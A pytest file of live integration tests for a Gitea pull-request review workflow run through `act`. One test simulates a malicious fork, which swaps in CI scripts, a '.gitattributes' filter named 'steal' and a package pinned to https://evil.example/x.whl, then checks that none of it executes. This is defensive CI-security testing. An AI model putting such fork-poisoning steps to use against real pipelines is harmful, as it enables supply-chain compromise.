"""The installed workflow itself, run by `act` as a runner would, against a real forge."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.ci.changes import PROGRAM, ROOT, Change, share
from tests.ci.forge_world import REVIEW, ForgeWorld, clone_of, forge_world, push

pytestmark = [pytest.mark.live, pytest.mark.timeout(1800)]

WORKFLOWS = ".gitea/workflows"
PASSED_ON = ("PIP_", "SSL_", "UV_", "http_proxy", "https_proxy", "no_proxy")
"""Variables that say how this machine reaches the package index."""


@dataclass
class Runner:
    """A state repository on the forge with the installed workflow on `main`, and what runs it."""

    world: ForgeWorld
    change: Change
    directory: Path

    def run(self, event: str, **found: Any) -> subprocess.CompletedProcess[str]:
        """The workflow of `main` on an event, as `pull_request_target` and a merge queue run it."""
        base = self.directory / "base"
        if not base.exists():
            self.change.git("worktree", "add", "--quiet", "--detach", str(base), "origin/main")
        file = self.directory / "event.json"
        file.write_text(json.dumps({"repository": {"full_name": self.world.repository}, **found}))
        variables = {
            "GITHUB_SERVER_URL": f"{self.world.url}/",
            "GITHUB_API_URL": f"{self.world.url}/api/v1",
            "GITHUB_REPOSITORY": self.world.repository,
            "GITEA_ACTIONS": "true",
            **{key: value for key, value in os.environ.items() if key.startswith(PASSED_ON)},
        }
        options = [word for key, value in variables.items() for word in ("--env", f"{key}={value}")]
        return subprocess.run(
            [
                os.environ["ACT"], event, "--eventpath", str(file), "--workflows", WORKFLOWS,
                "--platform", "ubuntu-latest=-self-hosted", "--no-cache-server",
                "--action-cache-path", str(self.directory / "act"),
                "--secret", f"GITHUB_TOKEN={self.world.token}", *options,
            ],
            cwd=base, capture_output=True, text=True, check=False,
        )  # fmt: skip

    def review(self, number: int, head: str = "") -> subprocess.CompletedProcess[str]:
        """The review of a pull request, or of an older head of it."""
        pull = self.world.here("GET", f"pulls/{number}")
        if head:
            pull["head"]["sha"] = head
        ran = self.run("pull_request_target", pull_request=pull, number=number, action="synchronized")
        print(ran.stdout[-6_000:], ran.stderr[-2_000:])
        return ran

    def propose(self, branch: str, alter: Callable[[], None]) -> tuple[int, str]:
        """A pull request from `main` with a change; its number and head."""
        self.change.git("checkout", "--quiet", "-B", branch, "origin/main")
        alter()
        head = push(self.change, branch)
        return self.world.propose(branch), head


def wheel(directory: Path) -> str:
    """This version of the program, as a pinned address."""
    pip = [sys.executable, "-m", "pip", "wheel", "--quiet", "--no-deps", "--no-build-isolation"]
    subprocess.run([*pip, "--wheel-dir", str(directory), str(ROOT)], check=True, cwd=directory)
    [made] = directory.glob("*.whl")
    return f"{made.as_uri()}#sha256={hashlib.sha256(made.read_bytes()).hexdigest()}"


@pytest.fixture(scope="module")
def runner(tmp_path_factory: pytest.TempPathFactory) -> Runner:
    if not (os.environ.get("FORGE_ENV") and os.environ.get("ACT")):
        pytest.skip("make live FORGE_ENV=... ACT=... names the real forge and the act program")
    directory = tmp_path_factory.mktemp("runner")
    world = forge_world()
    change = clone_of(world, directory / "clone")
    change.git("checkout", "--quiet", "-b", "main")
    init = [str(PROGRAM), "init", ".", "--ci", "gitea", "--requirement", wheel(directory)]
    subprocess.run(init, cwd=change.directory, check=True, capture_output=True)
    change.git("add", "--all")
    change.git("commit", "--quiet", "--message", "The state of a provider")
    push(change, "main")
    share(change, "north")
    change.git("push", "--quiet", "origin", "snapshot/north")
    change.git("fetch", "--quiet", "origin")
    return Runner(world, change, directory)


def dearer(runner: Runner) -> Callable[[], None]:
    return lambda: runner.change.edit("pricing.yaml", "cpu_millicores: 1uve", "cpu_millicores: 1.2uve")


def test_the_workflow_passes_actionlint(runner: Runner) -> None:
    lint = Path(os.environ["ACT"]).with_name("actionlint")
    if not lint.exists():
        pytest.skip("there is no actionlint beside act")
    subprocess.run([lint, "ci/provider-review.yml"], cwd=ROOT, check=True)


def test_a_change_is_reviewed_and_a_newer_push_edits_the_comment(runner: Runner) -> None:
    number, head = runner.propose("prices", dearer(runner))
    assert runner.review(number).returncode == 0
    [comment] = runner.world.comments(number)
    lines = comment.splitlines()
    assert lines[1].startswith("## Valid; 2 open orders decided otherwise; prices +")
    assert f"[Log of this run]({runner.world.url}/{runner.world.repository}/actions/runs/" in comment
    [(state, words)] = runner.world.states(head, REVIEW)
    assert (state, words.startswith("valid; 2 open orders")) == ("success", True)

    runner.change.edit("pricing.yaml", "cpu_millicores: 1.2uve", "cpu_millicores: 1.3uve")
    newer = push(runner.change, "prices")
    stale = runner.review(number, head)
    assert stale.returncode == 0
    assert f"has moved from {head[:12]} to {newer[:12]}; nothing was written" in stale.stdout
    assert runner.world.comments(number) == [comment]
    assert runner.review(number).returncode == 0
    [edited] = runner.world.comments(number)
    assert "1.3uve" in edited


def test_a_broken_file_fails_the_job(runner: Runner) -> None:
    def alter() -> None:
        runner.change.edit("pricing.yaml", "gpu: 20000uve", "gpu: 20000uact")

    number, head = runner.propose("broken", alter)
    ran = runner.review(number)
    assert ran.returncode != 0
    [comment] = runner.world.comments(number)
    assert comment.splitlines()[1].startswith("## Not valid, 1 error; nothing takes effect")
    assert [state for state, _ in runner.world.states(head, REVIEW)] == ["failure"]


def test_code_of_a_fork_is_not_run(runner: Runner) -> None:
    """Its own workflow, scripts, program and filters are data."""
    world, change = runner.world, runner.change
    organisation = f"fork-{world.name}"
    world.ask("POST", "/orgs", username=organisation)
    world.here("POST", "forks", organization=organisation, name=world.name)
    fork = world.git_url.replace(f"/{world.repository}.git", f"/{organisation}/{world.name}.git")
    change.git("checkout", "--quiet", "-B", "evil", "origin/main")
    trap = runner.directory / "trapped"
    for path in ("ci/review.sh", "ci/install.sh"):
        change.write(path, f"#!/bin/sh\ntouch '{trap}'\n")
    change.write("ci/program.txt", "virtengine-provider-gitops @ https://evil.example/x.whl\n")
    change.write(".gitattributes", "* filter=steal\n")
    change.write(f"{WORKFLOWS}/provider-review.yml", "on: pull_request_target\n")
    change.git("push", "--quiet", fork, "HEAD:evil")
    made = world.here("POST", "pulls", title="A present", head=f"{organisation}:evil", base="main")
    assert runner.review(made["number"]).returncode == 0
    assert not trap.exists()
    [comment] = world.comments(made["number"])
    assert comment.splitlines()[1] == "## Valid; nothing changes: no file of this provider differs"
    named = "`.gitattributes`, `.gitea/workflows/provider-review.yml`, `ci/install.sh`, `ci/program.txt`"
    assert f"changes how pull requests are checked:** {named}" in comment
    assert world.states(made["head"]["sha"], REVIEW)[-1][0] == "success"


def test_a_merge_queue_gets_its_state(runner: Runner) -> None:
    _, head = runner.propose("queued", dearer(runner))
    base = runner.change.git("rev-parse", "origin/main")
    group = {"head_sha": head, "base_sha": base, "base_ref": "refs/heads/main"}
    ran = runner.run("merge_group", merge_group=group)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert "a merge queue's commit has no pull request; nothing was written" in ran.stdout
    assert [state for state, _ in runner.world.states(head, REVIEW)] == ["success"]


def test_a_missing_state_is_waited_for(runner: Runner) -> None:
    """Branch protection as documented for Gitea: the job's own state, which act does not set."""
    number, head = runner.propose("protected", dearer(runner))
    job = "Provider review / review (pull_request_target)"
    runner.world.here(
        "POST", "branch_protections", rule_name="main", enable_push=False, enable_status_check=True,
        status_check_contexts=[job], block_admin_merge_override=True,
    )  # fmt: skip
    assert runner.review(number).returncode == 0
    assert runner.world.merge(number) == 405
    runner.world.here("POST", f"statuses/{head}", state="success", context=job)
    assert runner.world.merge(number) == 200
